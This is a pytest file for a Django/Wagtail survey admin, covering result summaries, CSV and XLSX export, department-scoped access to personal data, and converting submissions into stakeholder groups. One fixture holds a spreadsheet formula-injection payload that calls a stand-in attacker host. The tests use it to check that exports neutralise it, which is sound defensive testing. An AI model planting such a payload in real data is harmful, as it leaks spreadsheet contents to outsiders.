"""The admin's side of a survey: results per option (filter by event), the export, who may
read which submissions and their personal data, and a characterisation becoming a group."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from encuestas import results
from encuestas.models import SurveySubmission
from rendicion.models import PopulationGroup, StakeholderGroup

pytestmark = pytest.mark.django_db

CONTACT = "contacto.privado@example.org"
RESULTS_BUDGET = 25


def body(response):
    if response.streaming:
        return b"".join(response.streaming_content).decode("utf-8-sig")
    return response.content.decode()


def submit(page, event=None, **answers):
    return SurveySubmission.objects.create(page=page, form_data=answers, event=event)


@pytest.fixture
def evaluated(evaluation, hearing, encounter):
    submit(evaluation, hearing, como_se_entero="Radio", fue_clara_la_informacion="Sí")
    submit(evaluation, hearing, como_se_entero="Radio", fue_clara_la_informacion="No")
    submit(
        evaluation,
        encounter,
        como_se_entero="Redes sociales",
        fue_clara_la_informacion="Sí",
        que_temas_le_interesan=["Educación", "Salud"],
        sugerencias='=HYPERLINK("http://evil.example/?d="&A2,"x")',
    )
    submit(evaluation, None, como_se_entero="Radio", que_temas_le_interesan=["Salud"])
    return evaluation


def options(question):
    return {option.label: (option.count, option.percent) for option in question.options}


class TestSummary:
    def test_counts_and_percentages_per_option(self, evaluated):
        learned, clear, topics = results.summarise(evaluated, evaluated.get_submissions())
        assert learned.total == 4
        assert options(learned) == {
            "Redes sociales": (1, 25.0),
            "Radio": (3, 75.0),
            "Invitación de la Alcaldía": (0, 0.0),
        }
        assert options(clear) == {"Sí": (2, 50.0), "No": (1, 25.0)}
        assert clear.unanswered == 1
        assert topics.multiple and options(topics)["Salud"] == (2, 50.0)

    def test_filtered_by_event(self, evaluated, hearing):
        learned, clear, _topics = results.summarise(
            evaluated, evaluated.get_submissions().filter(event=hearing)
        )
        assert learned.total == 2 and options(learned)["Radio"] == (2, 100.0)
        assert options(clear) == {"Sí": (1, 50.0), "No": (1, 50.0)}

    def test_the_results_page_writes_the_numbers_and_filters_by_event(
        self, client, evaluated, hearing, admin_user_
    ):
        client.force_login(admin_user_)
        url = reverse("encuestas:results", args=[evaluated.pk])
        html = client.get(url).content.decode()
        assert "4 respuestas" in html and "75,0&nbsp;%" in html
        assert f'<option value="{hearing.pk}"' in html
        html = client.get(f"{url}?evento={hearing.pk}").content.decode()
        assert "2 respuestas" in html and "100,0&nbsp;%" in html

    def test_the_summary_costs_the_same_queries_whatever_the_number_of_submissions(
        self,
        client,
        evaluated,
        admin_user_,
        django_assert_max_num_queries,
        django_assert_num_queries,
    ):
        client.force_login(admin_user_)
        url = reverse("encuestas:results", args=[evaluated.pk])
        client.get(url)
        with django_assert_max_num_queries(RESULTS_BUDGET) as few:
            client.get(url)
        queries = len(few)
        for _ in range(20):
            submit(evaluated, None, como_se_entero="Radio")
        with django_assert_num_queries(queries):
            client.get(url)


class TestExport:
    def rows(self, client, page, fmt="csv", query=""):
        url = reverse("encuestas:export", args=[page.pk]) + f"?formato={fmt}{query}"
        response = client.get(url)
        assert response.status_code == 200
        if fmt == "csv":
            return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        sheet = load_workbook(io.BytesIO(response.content)).active
        return [[cell.value for cell in row] for row in sheet.iter_rows()]

    def test_csv_cells_that_look_like_formulas_are_neutralised(
        self, client, evaluated, admin_user_
    ):
        client.force_login(admin_user_)
        rows = self.rows(client, evaluated)
        assert rows[0][:3] == ["Fecha de envío", "Evento", "¿Cómo se enteró?"]
        assert len(rows) == 5
        cells = [cell for row in rows for cell in row]
        assert '\'=HYPERLINK("http://evil.example/?d="&A2,"x")' in cells

    def test_xlsx_keeps_the_formula_as_text(self, client, evaluated, admin_user_):
        client.force_login(admin_user_)
        url = reverse("encuestas:export", args=[evaluated.pk]) + "?formato=xlsx"
        sheet = load_workbook(io.BytesIO(client.get(url).content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        hostile = [cell for cell in cells if str(cell.value).startswith("=HYPERLINK")]
        assert hostile and all(cell.data_type == "s" for cell in hostile)

    def test_wagtails_own_csv_export_is_neutralised_too(self, client, evaluated, admin_user_):
        client.force_login(admin_user_)
        url = reverse("wagtailforms:list_submissions", args=[evaluated.pk]) + "?export=csv"
        assert "'=HYPERLINK" in body(client.get(url))

    def test_the_export_follows_the_event_filter(self, client, evaluated, hearing, admin_user_):
        client.force_login(admin_user_)
        rows = self.rows(client, evaluated, query=f"&evento={hearing.pk}")
        assert len(rows) == 3 and {row[1] for row in rows[1:]} == {"Audiencia pública 2021"}


class TestScope:
    @pytest.fixture
    def answered(self, characterisation):
        submit(characterisation, None, organizacion="Colectivo", correo_de_contacto=CONTACT)
        return characterisation

    def urls(self, page):
        return [
            reverse("encuestas:results", args=[page.pk]),
            reverse("encuestas:export", args=[page.pk]) + "?formato=csv",
            reverse("wagtailforms:list_submissions", args=[page.pk]),
            reverse("wagtailforms:list_submissions", args=[page.pk]) + "?export=csv",
        ]

    def test_another_departments_editor_reads_nothing(
        self, client, roles, answered, health, member
    ):
        client.force_login(
            member("editor.salud", health, "editors_group", "encuestas.view_personal_data")
        )
        for url in self.urls(answered):
            response = client.get(url)
            assert response.status_code in (302, 403, 404), url  # 302: to the dashboard
            assert "Colectivo" not in body(response)
        forms_index = client.get(reverse("wagtailforms:index")).content.decode()
        assert answered.title not in forms_index

    def test_the_departments_editor_reads_answers_but_not_personal_data(
        self, client, roles, answered, education, member
    ):
        client.force_login(member("editor.educacion", education))
        for url in self.urls(answered):
            response = client.get(url)
            assert response.status_code == 200, url
            assert CONTACT not in body(response)
        assert "Colectivo" in body(client.get(self.urls(answered)[2]))
        assert "Colectivo" in body(client.get(self.urls(answered)[3]))

    def test_personal_data_is_shown_with_the_permission(
        self, client, roles, answered, education, member
    ):
        client.force_login(
            member("editora.educacion", education, "editors_group", "encuestas.view_personal_data")
        )
        for url in self.urls(answered)[1:]:
            assert CONTACT in body(client.get(url)), url


class TestConversion:
    @pytest.fixture
    def answered(self, characterisation):
        PopulationGroup.objects.get_or_create(slug="jovenes", defaults={"name": "Jóvenes"})
        return submit(
            characterisation,
            None,
            organizacion="Colectivo <b>Juvenil</b>",
            tipo="Academia",
            territorio="Comuna 5",
            grupos_poblacionales=["Jóvenes"],
            correo_de_contacto=CONTACT,
        )

    def editor(self, member, department, *extra):
        return member(
            f"editor.{department.slug}",
            department,
            "editors_group",
            "rendicion.add_stakeholdergroup",
            "rendicion.change_stakeholdergroup",
            *extra,
        )

    def test_the_form_is_prefilled_and_saving_links_the_submission(
        self, client, roles, answered, education, member
    ):
        client.force_login(self.editor(member, education, "encuestas.view_personal_data"))
        listing = client.get(reverse("encuestas:results", args=[answered.page_id]))
        assert "Colectivo &lt;b&gt;Juvenil&lt;/b&gt;" in listing.content.decode()
        url = reverse("encuestas:convert", args=[answered.pk])
        html = client.get(url).content.decode()
        assert 'value="Colectivo &lt;b&gt;Juvenil&lt;/b&gt;"' in html
        assert 'value="Comuna 5"' in html and CONTACT in html
        assert '<option value="academic" selected>' in html  # the type, matched by its label
        jovenes = PopulationGroup.objects.get(name="Jóvenes")
        response = client.post(
            url,
            {
                "name": "Colectivo Juvenil",
                "group_type": "academic",
                "departments": [education.pk],
                "territory": "Comuna 5",
                "population_groups": [jovenes.pk],
                "contact_email": CONTACT,
            },
        )
        assert response.status_code == 302, response.content.decode()[:2000]
        group = StakeholderGroup.objects.get(name="Colectivo Juvenil")
        answered.refresh_from_db()
        assert answered.stakeholder_group == group and answered.converted_at is not None
        results_page = client.get(response["Location"]).content.decode()
        assert "Colectivo Juvenil" in results_page and "Convertida" in results_page
        # Not twice.
        assert client.get(url).status_code == 302
        assert StakeholderGroup.objects.count() == 1

    def test_contact_details_are_not_prefilled_without_the_permission(
        self, client, roles, answered, education, member
    ):
        client.force_login(self.editor(member, education))
        html = client.get(reverse("encuestas:convert", args=[answered.pk])).content.decode()
        assert 'value="Comuna 5"' in html and CONTACT not in html

    def test_another_department_cannot_convert(self, client, roles, answered, health, member):
        client.force_login(self.editor(member, health, "encuestas.view_personal_data"))
        url = reverse("encuestas:convert", args=[answered.pk])
        assert client.get(url).status_code == 404
        assert client.post(url, {"name": "X", "group_type": "other"}).status_code == 404
        assert not StakeholderGroup.objects.exists()

    def test_without_the_right_to_add_groups_nothing_is_created(
        self, client, roles, answered, education, member
    ):
        client.force_login(member("sin.permiso", education))
        url = reverse("encuestas:convert", args=[answered.pk])
        assert client.get(url).status_code in (302, 403)
        client.post(url, {"name": "X", "group_type": "other"})
        assert not StakeholderGroup.objects.exists()
        answered.refresh_from_db()
        assert answered.stakeholder_group is None

    def test_nothing_is_converted_without_review(self, answered):
        assert not StakeholderGroup.objects.exists()
        assert answered.stakeholder_group is None
